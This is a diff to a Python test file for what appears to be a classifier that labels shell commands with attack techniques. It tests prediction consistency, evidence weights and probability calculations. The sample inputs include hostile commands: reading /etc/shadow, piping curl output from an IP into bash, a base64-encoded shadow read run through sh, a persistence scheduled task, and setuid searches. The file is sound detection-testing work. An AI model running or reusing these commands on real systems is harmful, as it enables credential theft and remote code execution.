@@ -1,16 +1,22 @@
 """The hybrid family: understands before it scores, says why, and is refused with other knowledge."""
 
+from collections import Counter
 from pathlib import Path
 
 import numpy as np
 import pytest
 
+from ttpline.commands.facts import Fact
+from ttpline.commands.normalise import model_text
+from ttpline.commands.understand import built_in
 from ttpline.domain.labelled import LabelledCommand
 from ttpline.domain.prediction import NORMAL
 from ttpline.errors import ModelFormatError
 from ttpline.models._folder import load_folder
 from ttpline.models._hybrid_labels import label_tree
-from ttpline.models.hybrid import CHUNK, FEW, Hybrid, HybridParams
+from ttpline.models._meaning_features import meaning_features
+from ttpline.models._sparse_rows import FEW
+from ttpline.models.hybrid import CHUNK, Hybrid, HybridParams
 from ttpline.testing.check_classifier import sample_rows
 
 ENCODED = "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"
@@ -117,3 +123,108 @@ def test_the_tree_keeps_leaves_of_a_technique_together() -> None:
     votes = [{"T1003.008": 2.0, "T1005": -1.0, "T1999": 3.0}]
     assert tree.technique_votes(votes).tolist() == [[2.0, -1.0]]
     assert tree.leaf_votes(votes).tolist() == [[0.0, 0.0, 2.0, 0.0]]
+
+
+COMMANDS = (
+    "cat /etc/shadow",
+    "sudo cat '/etc/passwd' | grep root",
+    "curl -s http://192.0.2.7/x | bash",
+    "schtasks /create /tn updates /tr C:\\Users\\Public\\a.exe /sc onlogon",
+    "nmap -sS -p- 192.0.2.0/24; nmap -sS -p- 192.0.2.0/24",
+    "ÄÖ naïve İstanbul cat /etc/shadow",
+    "",
+    "'\"",
+    "id; id id id id",
+    ENCODED,
+    "ls -la /srv/web && find / -perm -4000 2>/dev/null",
+)
+
+
+def test_a_command_is_answered_and_explained_alone_as_among_others(model: Hybrid) -> None:
+    together = model.predict([*COMMANDS, *(f"ls /srv/{number}" for number in range(FEW))])
+    for command, prediction in zip(COMMANDS, together, strict=False):
+        assert model.predict([command]) == [prediction]
+
+
+def test_the_weight_of_a_fact_is_what_its_vote_and_its_features_add(model: Hybrid) -> None:
+    parts = model._parts
+    assert parts is not None
+    place = {name: at for at, name in enumerate(parts.meaning)}
+    weights = parts.arrays["meaning.technique"].astype(np.float64)
+    checked = 0
+    for command in COMMANDS:
+        found = built_in().understand(model_text(command))
+        features = meaning_features(found)
+        named = Counter(name for fact in found.facts for name in names_of(fact))
+        for score in model.predict([command], top_k=9)[0].techniques:
+            is_learned = score.technique in parts.techniques
+            believed = model.params.vote_weight if is_learned else model.params.unseen_vote_weight
+            expected: dict[tuple[tuple[int, int], str], float] = {}
+            for fact in found.facts:
+                strengths = [vote for name, vote in fact.speaks.items() if name.startswith(score.technique)]
+                margin = believed * max(strengths, default=0)
+                if score.technique in parts.techniques:
+                    of_technique = weights[:, parts.techniques.index(score.technique)] - weights.mean(axis=1)
+                    margin += sum(
+                        features[name] / named[name] * of_technique[place[name]]
+                        for name in names_of(fact)
+                        if name in place and name in features
+                    )
+                key = (fact.span, fact.why)
+                expected[key] = max(expected.get(key, 0.0), margin * model.params.sharpness)
+            for part in score.evidence:
+                if part.kind != "text" or (part.span, part.why) in expected:
+                    assert part.weight == pytest.approx(expected[part.span, part.why], rel=1e-5)
+                    checked += 1
+    assert checked > 20
+
+
+def names_of(fact: Fact) -> list[str]:
+    parents = {f"tp:{name.partition('.')[0]}" for name in fact.speaks}
+    return [f"u:{fact.entry}", *(f"m:{one}" for one in fact.means), *(f"t:{name}" for name in fact.speaks), *parents]
+
+
+@pytest.mark.parametrize("rows", range(1, 6))
+@pytest.mark.parametrize("temperature", [1.0, 0.8])
+def test_probabilities_are_shares_of_techniques_times_shares_of_leaves(
+    model: Hybrid, rows: int, temperature: float
+) -> None:
+    parts, shares = model._parts, model._shares
+    assert parts is not None
+    tree = label_tree(model.labels)
+    draw = np.random.default_rng(rows)
+    heads = draw.normal(size=(rows, len(parts.techniques) + 1)).astype(np.float32)
+    leaves = draw.normal(size=(rows, shares.leaf_columns.size)).astype(np.float32)
+    votes = [{"T1003.008": 2.0, "T1053": 1.5, "T1999": 3.0, NORMAL: 1.0}, {"T1046": -1.0}, {}, {}, {}][:rows]
+    found = shares.of(heads, leaves, votes, temperature)
+    for row in range(rows):
+        margins = dict.fromkeys(tree.techniques, model.params.unseen_margin)
+        margins |= dict(zip(parts.techniques, heads[row, :-1].tolist(), strict=True))
+        of_leaves = dict.fromkeys(tree.leaves, model.params.unseen_margin)
+        for column, value in zip(shares.leaf_columns.tolist(), leaves[row].tolist(), strict=True):
+            of_leaves[parts.leaves[column]] = value + float(parts.arrays["leaf"][column])
+        technique_votes, leaf_votes = tree.technique_votes([votes[row]])[0], tree.leaf_votes([votes[row]])[0]
+        for at, name in enumerate(tree.techniques):
+            believed = model.params.vote_weight if name in parts.techniques else model.params.unseen_vote_weight
+            margins[name] += believed * technique_votes[at]
+        of_leaves = {
+            name: value + model.params.vote_weight * vote
+            for (name, value), vote in zip(of_leaves.items(), leaf_votes.tolist(), strict=True)
+        }
+        powers = {name: np.exp(value * model.params.sharpness) for name, value in margins.items()}
+        attack = 1 / (1 + np.exp(-float(heads[row, -1])))
+        expected = {NORMAL: 1 - attack}
+        for name in tree.leaves:
+            family = [other for other in tree.leaves if other.partition(".")[0] == name.partition(".")[0]]
+            within = {other: np.exp(of_leaves[other] * model.params.sharpness) for other in family}
+            share = powers[name.partition(".")[0]] / sum(powers.values())
+            expected[name] = share * within[name] / sum(within.values()) * attack
+        tempered = np.array([expected[label] for label in model.labels]) ** (1 / temperature)
+        np.testing.assert_allclose(found[row], tempered / tempered.sum(), rtol=1e-5)
+
+
+def test_a_command_is_the_same_text_before_and_after_it_was_predicted(model: Hybrid) -> None:
+    fresh = Hybrid(model.params)
+    before = [fresh.normalised(command) for command in COMMANDS]
+    model.predict(COMMANDS)
+    assert [model.normalised(command) for command in COMMANDS] == before
